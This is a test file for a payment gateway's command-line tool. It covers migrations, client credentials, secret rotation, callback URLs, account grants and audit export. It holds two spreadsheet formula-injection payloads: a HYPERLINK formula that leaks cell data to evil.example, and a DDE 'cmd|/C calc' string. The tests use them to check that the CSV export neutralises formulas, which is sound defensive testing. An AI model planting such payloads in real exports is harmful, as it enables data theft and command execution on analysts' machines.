import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { forEachBackend } from '../support/databases.js';
import { sampleTransfer, TestGateway } from '../support/gateway-harness.js';
import { runCli } from '../support/cli.js';
import { TEST_AUDIT_KEY } from '../support/audit-keys.js';

describe('gerbang migrate', () => {
  it('applies the migrations to a fresh embedded store, then reports it up to date', async () => {
    const url = `sqlite:${join(mkdtempSync(join(tmpdir(), 'gerbang-migrate-')), 'g.sqlite')}`;
    const first = await runCli(['migrate'], { GERBANG_DATABASE_URL: url });
    expect(first.code, first.stderr).to.equal(0);
    expect(first.stdout).to.match(/applied .*001/);
    const second = await runCli(['migrate'], { GERBANG_DATABASE_URL: url });
    expect(second.stdout).to.contain('up to date');
  });

  it('names GERBANG_DATABASE_URL when it is not a supported URL, exit 2', async () => {
    const result = await runCli(['migrate'], { GERBANG_DATABASE_URL: 'postgres://localhost/x' });
    expect(result.code).to.equal(2);
    expect(result.stderr).to.contain('GERBANG_DATABASE_URL');
  });
});

describe('gerbang serve with a bad setting', () => {
  it('stops at once and names the variable', async () => {
    const result = await runCli(['serve'], { PORT: 'eighty', GERBANG_JWT_SECRET: 'x'.repeat(40), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY });
    // A service that cannot start exits 1 (a one-shot command called wrongly exits 2).
    expect(result.code).to.equal(1);
    expect(result.stderr).to.contain('PORT');
  });
});

const HOSTILE_CLIENT_ID = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
const HOSTILE_ORIGIN = '@SUM(1+1)*cmd|/C calc!A0';

forEachBackend('gerbang client and audit commands', (db) => {
  it('creates a client, printing the secret once as JSON, then lists and disables it', async () => {
    const env = { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY };
    const created = await runCli(['client', 'create', '--name', 'ERP prod', '--origin', '*.dynamics.com', '--cidr', '203.0.113.0/24', '--json'], env);
    expect(created.code, created.stderr).to.equal(0);
    const { clientId, clientSecret } = JSON.parse(created.stdout);
    expect(clientId).to.match(/^gbc_[0-9a-f]{16}$/);
    expect(clientSecret).to.have.length.greaterThan(30);

    const stored = await db.store().clients.findById(clientId);
    expect(stored!.secretHash).to.not.contain(clientSecret);
    expect(stored!.allowedCidrs).to.deep.equal(['203.0.113.0/24']);

    const listed = await runCli(['client', 'list', '--json'], env);
    const clients = JSON.parse(listed.stdout) as { id: string; secretHash?: string }[];
    expect(clients.map((c) => c.id)).to.include(clientId);
    expect(listed.stdout).to.not.contain('scrypt$');

    const disabled = await runCli(['client', 'disable', '--id', clientId], env);
    expect(disabled.code).to.equal(0);
    expect((await db.store().clients.findById(clientId))!.status).to.equal('disabled');
  });

  it('rotates a secret: the old secret and the tokens issued with it stop working at once', async () => {
    const gw = await TestGateway.start(db.url());
    try {
      const client = await gw.createClient();
      const oldToken = await gw.token(client);
      const rotated = await runCli(['client', 'rotate-secret', '--id', client.clientId, '--json'], { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY });
      expect(rotated.code, rotated.stderr).to.equal(0);
      const { clientSecret } = JSON.parse(rotated.stdout);
      expect(clientSecret).to.not.equal(client.clientSecret);

      const withOldToken = await gw.request('/v1/transfers', { json: sampleTransfer(), headers: { authorization: `Bearer ${oldToken}` } });
      expect(withOldToken.status).to.equal(401);
      const withOldSecret = await gw.request('/v1/auth/token', { json: { client_id: client.clientId, client_secret: client.clientSecret } });
      expect(withOldSecret.status).to.equal(401);
      const newToken = await gw.token({ clientId: client.clientId, clientSecret });
      const paid = await gw.request('/v1/transfers', { json: sampleTransfer(), headers: { authorization: `Bearer ${newToken}` } });
      expect(paid.status, paid.text).to.equal(201);
    } finally {
      await gw.close();
    }
  });

  it('refuses a bad --cidr, naming it', async () => {
    const result = await runCli(['client', 'create', '--name', 'x', '--cidr', '300.1.1.1/8'], { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY });
    expect(result.code).to.equal(2);
    expect(result.stderr).to.contain('--cidr "300.1.1.1/8"');
  });

  describe('audit export', () => {
    let transactionId: string;

    before(async () => {
      const gw = await TestGateway.start(db.url());
      try {
        const client = await gw.createClient();
        const token = await gw.token(client);
        const body = sampleTransfer();
        transactionId = body.transactionId as string;
        const res = await gw.request('/v1/transfers', { json: body, headers: { authorization: `Bearer ${token}` } });
        expect(res.status).to.equal(201);
        // An anonymous caller chooses its client_id and Origin: both reach the audit, and so the export.
        const anonymous = await gw.request('/v1/auth/token', { json: { client_id: HOSTILE_CLIENT_ID, client_secret: 'x' } });
        expect(anonymous.status).to.equal(401);
        const foreign = await gw.request('/v1/auth/token', { json: { client_id: 'x', client_secret: 'x' }, headers: { origin: HOSTILE_ORIGIN } });
        expect(foreign.status).to.equal(403);
      } finally {
        await gw.close();
      }
    });

    it('writes one JSON line per exchange with its bank legs', async () => {
      const result = await runCli(['audit', 'export', '--format', 'jsonl'], { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY });
      expect(result.code, result.stderr).to.equal(0);
      const records = result.stdout.trim().split('\n').map((line) => JSON.parse(line));
      const transfer = records.find((r) => r.transactionId === transactionId);
      expect(transfer.statusCode).to.equal(201);
      expect(transfer.bankCalls.map((c: { operation: string }) => c.operation)).to.include('transfer-intrabank');
      expect(records.some((r) => r.path === '/v1/auth/token')).to.equal(true);
    });

    it('writes CSV a spreadsheet reads back, with the bank legs in their column', async () => {
      const result = await runCli(['audit', 'export', '--format', 'csv', '--from', '2000-01-01'], { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY });
      expect(result.code, result.stderr).to.equal(0);
      const rows = parse(result.stdout, { columns: true, bom: true }) as Record<string, string>[];
      const transfer = rows.find((r) => r.transactionId === transactionId)!;
      expect(transfer.statusCode).to.equal('201');
      expect(Number(transfer.bankCallCount)).to.be.greaterThan(0);
      expect(JSON.parse(transfer.bankCalls)[0]).to.have.property('operation');
      expect(JSON.parse(transfer.requestBody).transactionId).to.equal(transactionId);
    });

    it('neutralises cells a spreadsheet would run as formulas (client_id and Origin from anonymous callers)', async () => {
      const result = await runCli(['audit', 'export', '--format', 'csv', '--from', '2000-01-01'], { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY });
      expect(result.code, result.stderr).to.equal(0);
      const rows = parse(result.stdout, { columns: true, bom: true }) as Record<string, string>[];
      expect(rows.find((r) => r.clientId === `'${HOSTILE_CLIENT_ID}`), 'the anonymous request is exported, its client_id kept as text').to.exist;
      expect(rows.find((r) => r.origin === `'${HOSTILE_ORIGIN}`), 'the refused Origin is exported as text').to.exist;
      for (const row of rows) for (const cell of Object.values(row)) expect(cell, 'no cell starts a formula').to.not.match(/^[=+\-@\t\r]/);
    });

    it('exports nothing for a window before any record', async () => {
      const result = await runCli(['audit', 'export', '--format', 'jsonl', '--to', '2001-01-01T00:00:00Z'], { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY });
      expect(result.stdout.trim()).to.equal('');
    });

    it('names a bad --from', async () => {
      const result = await runCli(['audit', 'export', '--format', 'csv', '--from', 'yesterday'], { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY });
      expect(result.code).to.equal(2);
      expect(result.stderr).to.contain('--from');
    });
  });
});

forEachBackend('gerbang client set-callback', (db) => {
  it('registers an https endpoint (or loopback http), refuses any other naming --url, and removes it', async function () {
    this.timeout(90_000); // nine CLI processes
    const env = { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY };
    const { clientId } = JSON.parse((await runCli(['client', 'create', '--name', 'ERP', '--cidr', '10.0.0.0/8', '--json'], env)).stdout);
    const set = await runCli(['client', 'set-callback', '--id', clientId, '--url', 'https://erp.example.co.id/gerbang'], env);
    expect(set.code, set.stderr).to.equal(0);
    for (const url of ['http://erp.example.co.id/x', 'ftp://erp.example.co.id', 'https://user:pw@erp.example.co.id/x', 'not a url']) {
      const refused = await runCli(['client', 'set-callback', '--id', clientId, '--url', url], env);
      expect(refused.code, url).to.equal(2);
      expect(refused.stderr, url).to.contain('--url');
    }
    expect((await runCli(['client', 'set-callback', '--id', clientId, '--url', 'http://127.0.0.1:9/x'], env)).code).to.equal(0);
    expect((await runCli(['client', 'set-callback', '--id', clientId, '--remove'], env)).code).to.equal(0);
    expect((await runCli(['client', 'set-callback', '--id', 'nobody', '--url', 'https://x.example'], env)).code).to.equal(1);
  });
});

forEachBackend('gerbang client grant-account / revoke-account / accounts', (db) => {
  it('grants and withdraws a company account, lists them masked, and refuses a malformed account or an unknown client', async function () {
    this.timeout(90_000); // six CLI processes
    const env = { GERBANG_DATABASE_URL: db.url(), GERBANG_AUDIT_KEYS: TEST_AUDIT_KEY };
    const { clientId } = JSON.parse((await runCli(['client', 'create', '--name', 'ERP', '--cidr', '10.0.0.0/8', '--json'], env)).stdout);
    const granted = await runCli(['client', 'grant-account', '--id', clientId, '--account', '0201245680'], env);
    expect(granted.code, granted.stderr).to.equal(0);
    expect(JSON.parse((await runCli(['client', 'accounts', '--id', clientId, '--json'], env)).stdout).accounts).to.deep.equal(['******5680']);
    const bad = await runCli(['client', 'grant-account', '--id', clientId, '--account', '1234'], env);
    expect(bad.code).to.equal(2);
    expect(bad.stderr).to.contain('--account');
    expect((await runCli(['client', 'grant-account', '--id', 'nobody', '--account', '0201245680'], env)).code).to.equal(1);
    expect((await runCli(['client', 'revoke-account', '--id', clientId, '--account', '0201245680'], env)).code).to.equal(0);
    expect(await db.store().accountGrants.list(clientId)).to.deep.equal([]);
  }).timeout(60_000); // nine CLI processes, each loading the whole gateway
});
